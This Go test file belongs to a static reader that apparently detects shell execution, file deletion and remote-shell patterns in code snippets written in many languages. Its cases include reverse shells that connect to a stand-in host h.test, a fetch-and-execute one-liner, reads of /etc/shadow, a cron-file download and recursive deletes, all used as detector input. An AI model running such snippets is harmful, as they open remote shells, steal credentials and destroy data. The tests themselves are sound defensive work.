package lexical

import (
	"strings"
	"testing"

	"github.com/heedsh/heed/internal/inline"
	"github.com/heedsh/heed/internal/inline/inlinetest"
)

// lexicalCases: language, text, and all that is found.
func lexicalCases() [][3]string {
	return [][3]string{
		{"expect", `spawn /bin/sh -c "rm -rf x"; interact`, `argv: /bin/sh|-c|rm -rf x`},
		{"other", `system("rm -rf x")`, `shell: rm -rf x`},
		{"other", `plot '< curl http://h.test'; # system("id")`, ``},
		{"julia", "run(`rm -rf x`) # run(`id`)", `shell: rm -rf x`},
		{"julia", `println(read("/etc/shadow", String))`, `fs.read /etc/shadow shown`},
		{"julia", `open("/etc/x", "w") do f; end; rm("/srv", recursive=true)`, `fs.delete /srv recursive; fs.write /etc/x`},
		{"julia", "s = connect(\"h.test\", 9); while true; run(`$(readline(s))`); end", `exec.remote h.test (reverse shell)`},
		{"julia", "connect(\"h.test\", 9); run(`date`)", `argv: date`},
		{"julia", `download("http://h.test/x", "/etc/cron.d/x")`, `fs.write /etc/cron.d/x`},
		{"go", `c, _ := net.Dial("tcp", "h.test:9"); cmd := exec.Command("/bin/sh"); cmd.Stdin = c; cmd.Run()`, `argv: /bin/sh; exec.remote h.test:9 (reverse shell)`},
		{"julia", `system("rm -rf $dir/x")`, `shell: rm -rf <an expression>/x`},
		{"octave", `x = a'; system('id'); % system("x")`, `shell: id`},
		{"m4", "esyscmd(`rm -rf x')include(`/etc/shadow')dnl system", "fs.read /etc/shadow shown; shell: rm -rf x"},
		{"lisp", `(ext:run-program "/bin/sh" :arguments '("-c" "id")) ; (ext:shell "x")`, `argv: /bin/sh|-c|id`},
		{"lisp", `#| (ext:shell "x") |# (system (string-append "rm -rf " d))`, `shell: rm -rf <an expression>`},
		{"scheme", `(system (format #f "rm -rf ~a/b" d))`, `shell: rm -rf <an expression>/b`},
		{"elisp", `(call-process "sh" nil nil nil "-c" "id")`, `argv: sh|-c|id`},
		{"elisp", `(start-process "n" nil "sh" "-c" "id") (delete-directory "/srv" t)`, `argv: sh|-c|id; fs.delete /srv recursive`},
		{"go", "exec.Command(`sh`, \"-c\", \"id\").Run() // exec.Command(\"x\")", `argv: sh|-c|id`},
		{"go", `syscall.Exec("/bin/sh", []string{"sh", "-i"}, os.Environ())`, `argv: /bin/sh|-i`},
		{"go", `os.RemoveAll("/srv"); os.WriteFile("/etc/x", b, 0o644)`, `fs.delete /srv recursive; fs.write /etc/x`},
		{"rust", `Command::new("sh").arg("-c").args(["id"]).spawn(); fn f<'a>(x: &'a str) {}`, `argv: sh|-c|id`},
		{"rust", `println!("system(\"rm\")"); std::fs::remove_dir_all("/srv")`, `fs.delete /srv recursive`},
		{"c", `int main() { execl("/bin/sh", "sh", "-c", "id", NULL); /* system("x"); */ }`, `argv: /bin/sh|-c|id`},
		{"c", `char *a[] = {"/bin/sh", 0}; execve(a[0], a, 0);`, `argv: /bin/sh`},
		{"c", `char *a = "/bin/sh"; puts(a);`, `fs.read /bin/sh shown`},
		{"java", `System.out.println("rm -rf /"); Runtime.getRuntime().exec("rm -rf x");`, `shell: rm -rf x`},
		{"java", `new ProcessBuilder("sh", "-c", cmd).start(); new File("/etc/x").delete();`, `argv: sh|-c|<an expression>; fs.delete /etc/x`},
		{"haskell", `callProcess "rm" ["-rf", "x"] -- system "y"`, `argv: rm|-rf|x`},
		{"ocaml", `let () = ignore (Sys.command "id") (* Sys.command "x" *)`, `shell: id`},
		{"erlang", `os:cmd("id"), file:delete("/etc/x").`, `fs.delete /etc/x; shell: id`},
		{"elixir", `System.cmd("rm", ["-rf", "x"]); IO.puts("/etc/shadow")`, `argv: rm|-rf|x; fs.read /etc/shadow shown`},
		{"tex", `\immediate\write18{ls -l | sh} % \write18{x}`, `shell: ls -l | sh`},
		{"bpftrace", `BEGIN { system("id"); }`, `shell: id`},
		{"puppet", `exec { 'a': command => '/bin/rm -rf x', onlyif => 'id' }`, `shell: /bin/rm -rf x; shell: id`},
		{"puppet", `file { '/etc/x': ensure => absent }  user { 'u': shell => '/bin/bash' }`, `fs.delete /etc/x; fs.read /bin/bash`},
		{"postscript", `(%pipe%id) (w) file`, `shell: id`},
		{"csh", `set d = x; if (-e y) rm -rf $d`, "shell: d=x\nrm -rf $d\n"},
		{"fish", "if test -e y; rm (pwd); end # rm z", "shell: test -e y\nrm $(pwd)\n"},
		{"pwsh", `Remove-Item -Recurse -Force x; Get-Content y | Out-File z`, "shell: rm -r -f x\ncat y | tee z\n"},
		{"pwsh", `iwr http://h.test/a | iex`, "shell: curl -s 'https://h.test/a' | sh\n"},
	}
}

func TestLexical(t *testing.T) {
	t.Parallel()
	for _, c := range lexicalCases() {
		r := Read(c[0], c[1], inline.Host{})
		if r.Pure || r.Inspected {
			t.Errorf("%s: %s: what is read lexically is never whole", c[0], c[1])
		}
		r.Inspected = true
		if got := inlinetest.Render(r); got != c[2] {
			t.Errorf("%s: %s\n got %q\nwant %q", c[0], c[1], got, c[2])
		}
	}
}

// FuzzLexical feeds the reader of every style.
func FuzzLexical(f *testing.F) {
	for _, c := range lexicalCases() {
		f.Add(c[0], c[1])
	}
	f.Fuzz(func(t *testing.T, lang, text string) {
		if len(text) > 4096 {
			return
		}
		r := Read(lang, text, inline.Host{})
		if r.Pure || r.Inspected || len(r.Runs) > maxLexFound || len(r.Effects) > maxLexFound {
			t.Errorf("%q %q: %s", lang, text, inlinetest.Render(r))
		}
		if again := Read(lang, text, inline.Host{}); inlinetest.Render(again) != inlinetest.Render(r) {
			t.Errorf("%q %q: once %s, once %s", lang, text, inlinetest.Render(r), inlinetest.Render(again))
		}
	})
}

// Long texts of one piece repeated take no more than a few passes: every mark
// is looked at a bounded number of times, which shows in that this ends.
func TestLexicalLongTexts(t *testing.T) {
	t.Parallel()
	for _, unit := range []string{`system(`, `"`, "`", `#"a" `, `/*`, `(*`, `"""`, `${`, `\`, `a.`, `exec "/etc/x" `, `%pipe%`, `|`, `{`, `if `, "'"} {
		text := strings.Repeat(unit, maxLexText/len(unit))
		for _, lang := range []string{"c", "rust", "go", "julia", "lisp", "tex", "m4", "other", "pwsh", "fish", "puppet", "ocaml", "octave"} {
			if r := Read(lang, text, inline.Host{}); len(r.Runs) > maxLexFound {
				t.Errorf("%s: %q repeated: %d commands", lang, unit, len(r.Runs))
			}
		}
	}
}
